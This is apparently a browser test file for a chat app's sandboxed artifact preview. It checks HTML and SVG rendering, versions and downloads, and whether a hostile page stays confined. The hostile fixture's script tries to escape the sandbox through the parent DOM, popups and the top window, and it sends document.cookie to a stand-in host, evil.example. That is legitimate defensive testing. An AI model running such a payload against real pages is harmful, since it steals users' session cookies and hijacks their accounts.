"""Artifacts in the browser: a reply's HTML, SVG and Mermaid blocks preview beside the
chat in a sandboxed frame, with versions, Copy and Download; and the frame is a sandbox a
hostile page cannot climb out of (cookies, storage, the app's API and DOM, the top
window, popups, the network)."""

from __future__ import annotations

import pytest
from playwright.sync_api import expect

from tests.api.conftest import make_conversation

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

FIRST = (
    "```html\n<h1 id='hello'>Hello, 부산</h1>"
    "<script>document.getElementById('hello').dataset.ran = 'yes'</script>\n```"
)
SECOND = "Now blue:\n\n```html\n<h1 id='hello' style='color:blue'>Hello again</h1>\n```"
SVG = (
    "```svg\n<svg xmlns='http://www.w3.org/2000/svg' width='120' height='60'>"
    "<circle id='dot' cx='30' cy='30' r='20'/></svg>\n```"
)
HOSTILE = """```html
<pre id="out"></pre>
<script>
const out = [];
const note = (name, fn) => {
  try { out.push(name + "=" + fn()); } catch (e) { out.push(name + "!" + e.name); }
};
note("cookie", () => JSON.stringify(document.cookie));
note("storage", () => localStorage.length);
note("parent", () => parent.document.title);
note("popup", () => String(window.open("/")));
note("top", () => { top.location.href = "/logout/"; return "sent"; });
fetch("/api/v1/conversations").then(() => out.push("api=reached"), (e) => out.push("api!" + e.name))
  .finally(() => { document.getElementById("out").textContent = out.join("\\n"); });
new Image().src = "https://evil.example/pixel.png?c=" + document.cookie;
</script>
```"""


def _open(page, conversation, *, errors):
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.goto(f"/conversations/{conversation.id}/")


def test_html_svg_previews_beside_the_chat_with_versions_copy_and_download(
    new_context, alice, tmp_path
):
    conversation = make_conversation(
        alice, contents=["Make a page", FIRST, "Blue please", SECOND, "And a dot", SVG]
    )
    page = new_context(alice, viewport={"width": 1400, "height": 900}).new_page()
    errors: list[str] = []
    _open(page, conversation, errors=errors)
    page.get_by_role("button", name="Preview").first.click()
    panel = page.get_by_role("complementary", name="Preview · HTML")
    expect(panel).to_be_visible()
    frame = page.frame_locator("#artifact-panel iframe")
    expect(frame.locator("#hello")).to_have_text("Hello, 부산")
    expect(frame.locator("#hello")).to_have_attribute("data-ran", "yes")  # its scripts run
    expect(panel).to_contain_text("1 of 2")
    panel.get_by_role("button", name="Next version").click()
    expect(frame.locator("#hello")).to_have_text("Hello again")
    expect(panel).to_contain_text("2 of 2")
    with page.expect_download() as info:
        panel.get_by_role("button", name="Download").click()
    path = tmp_path / "artifact.html"
    info.value.save_as(path)
    assert "Hello again" in path.read_text()
    assert info.value.suggested_filename == "artifact-2.html"
    box = panel.bounding_box()
    assert box["x"] > 500 and box["width"] > 300  # beside the chat, not over it
    page.keyboard.press("Escape")
    expect(panel).to_be_hidden()
    page.get_by_role("button", name="Preview").last.click()  # the SVG
    svg_panel = page.get_by_role("complementary", name="Preview · SVG")
    expect(page.frame_locator("#artifact-panel iframe").locator("#dot")).to_have_count(1)
    expect(svg_panel.locator(".artifact-versions")).to_be_hidden()  # one version only
    assert errors == []


def test_a_hostile_preview_stays_in_its_sandbox(new_context, alice):
    conversation = make_conversation(alice, title="Keep me", contents=["Show it", HOSTILE])
    context = new_context(alice, viewport={"width": 390, "height": 844})
    page = context.new_page()
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    errors: list[str] = []
    _open(page, conversation, errors=errors)
    url = page.url
    page.get_by_role("button", name="Preview").click()
    out = page.frame_locator("#artifact-panel iframe").locator("#out")
    expect(out).to_contain_text("api", timeout=10_000)
    report = dict(
        (line.split("!")[0], "refused") if "!" in line else tuple(line.split("=", 1))
        for line in out.inner_text().splitlines()
    )
    assert report["cookie"] in ("refused", '""')  # an opaque origin has no cookies
    assert report["storage"] == "refused"
    assert report["parent"] == "refused"  # the app's DOM is out of reach
    assert report["popup"] in ("null", "refused")
    assert report["api"] == "refused"  # connect-src 'none'
    page.wait_for_timeout(500)
    assert page.url == url  # the top window did not move
    assert len(context.pages) == 1  # no popup
    assert not any("evil.example" in r for r in requests)  # no network
    assert not any(r.endswith("/api/v1/conversations") for r in requests)
    # On a phone the preview takes the lower part of the screen.
    box = page.locator("#artifact-panel").bounding_box()
    assert box["y"] > 200 and box["width"] >= 380
    page.get_by_role("button", name="Close the preview").click()
    expect(page.locator("#artifact-panel")).to_be_hidden()
    expect(page.get_by_role("heading", name="Keep me")).to_be_visible()
